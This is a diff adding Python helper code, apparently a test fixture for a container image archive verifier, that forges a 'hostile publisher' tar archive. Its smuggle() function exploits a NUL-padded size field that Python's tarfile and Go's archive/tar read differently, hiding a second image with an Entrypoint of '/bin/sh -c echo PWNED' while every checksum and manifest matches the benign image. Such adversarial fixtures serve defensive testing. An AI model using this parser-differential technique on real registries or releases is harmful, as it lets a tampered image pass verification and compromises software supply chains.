@@ -148,3 +148,64 @@ def cut_archive(folder: Path, name: str, drop: int) -> None:
     manifest["archive"]["files"][0].update(cut)
     (folder / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
     resum(folder)
+
+
+def _entry_bytes(name: str, data: bytes) -> bytes:
+    info = tarfile.TarInfo(name)
+    info.size, info.mode = len(data), 0o644
+    return info.tobuf(format=tarfile.PAX_FORMAT) + data + bytes(-len(data) % 512)
+
+
+def smuggle(folder: Path) -> tuple[str, str]:
+    """A hostile publisher's archive that holds two images: image A for a reader that cuts a header's
+    number at its first NUL (Python's ``tarfile``), image B for one that trims NULs first (Go's
+    archive/tar, the engine's; GNU tar). A is the release's image with two layers more: an empty one whose
+    size field is NUL + "0000001000" + NUL (0 to the first reader, 512 to the second), then one whose
+    bytes are B's config and a manifest.json naming it under the release's tag, and two zero blocks. The
+    second reader takes the next header as the empty layer's content, reads B's members and stops at their
+    zero blocks. Every checksum and name of the folder is made to agree with A. Returns (A's ID, B's ID)."""
+    entries = read_entries(folder)
+    data = {i.name: d for i, d in entries if d is not None}
+    manifest = json.loads(data["manifest.json"])[0]
+    config = json.loads(data[manifest["Config"]])
+    evil = dict(config, config={**config.get("config", {}), "Entrypoint": ["/bin/sh", "-c", "echo PWNED"]})
+    evil_data = compact(evil)
+    evil_id = hashlib.sha256(evil_data).hexdigest()
+    hidden = (_entry_bytes(f"blobs/sha256/{evil_id}", evil_data)
+              + _entry_bytes("manifest.json", compact([dict(manifest, Config=f"blobs/sha256/{evil_id}")]))
+              + bytes(1024))
+    empty, carrier = hashlib.sha256(b"").hexdigest(), hashlib.sha256(hidden).hexdigest()
+    checked = json.loads(json.dumps(config))
+    checked["rootfs"]["diff_ids"] += [f"sha256:{empty}", f"sha256:{carrier}"]
+    checked_data = compact(checked)
+    checked_id = hashlib.sha256(checked_data).hexdigest()
+    layers = manifest["Layers"] + [f"blobs/sha256/{empty}", f"blobs/sha256/{carrier}"]
+    index = json.loads(data["index.json"])
+    oci_name = "blobs/sha256/" + index["manifests"][0]["digest"].removeprefix("sha256:")
+    oci = json.loads(data[oci_name])
+    oci["config"].update(digest=f"sha256:{checked_id}", size=len(checked_data))
+    oci["layers"] += [{"mediaType": oci["layers"][-1]["mediaType"], "digest": f"sha256:{d}", "size": n}
+                      for d, n in ((empty, 0), (carrier, len(hidden)))]
+    oci_data = compact(oci)
+    index["manifests"][0].update(digest=f"sha256:{hashlib.sha256(oci_data).hexdigest()}", size=len(oci_data))
+    odd = bytearray(tarfile.TarInfo(f"blobs/sha256/{empty}").tobuf(format=tarfile.USTAR_FORMAT))
+    odd[124:136] = b"\x000000001000\x00"
+    odd[148:156] = b" " * 8
+    odd[148:155] = b"%06o\0" % sum(odd)
+    pieces = [info.tobuf(format=tarfile.PAX_FORMAT) for info, d in entries if d is None]  # the folders
+    pieces += [_entry_bytes(name, data[name]) for name in manifest["Layers"]]
+    pieces += [bytes(odd), _entry_bytes(f"blobs/sha256/{carrier}", hidden),
+               _entry_bytes(f"blobs/sha256/{checked_id}", checked_data),
+               _entry_bytes(f"blobs/sha256/{hashlib.sha256(oci_data).hexdigest()}", oci_data),
+               _entry_bytes("index.json", compact(index)),
+               _entry_bytes("manifest.json", compact([dict(manifest, Config=f"blobs/sha256/{checked_id}",
+                                                           Layers=layers)])),
+               _entry_bytes("oci-layout", data["oci-layout"]), bytes(1024)]
+
+    def recorded(release: dict) -> None:
+        release.update(image_id=f"sha256:{checked_id}", diff_ids=checked["rootfs"]["diff_ids"])
+
+    forge(folder, stream=b"".join(pieces), manifest_change=recorded)
+    (folder / "IMAGE_ID").write_text(f"sha256:{checked_id}\n")
+    resum(folder)
+    return f"sha256:{checked_id}", f"sha256:{evil_id}"
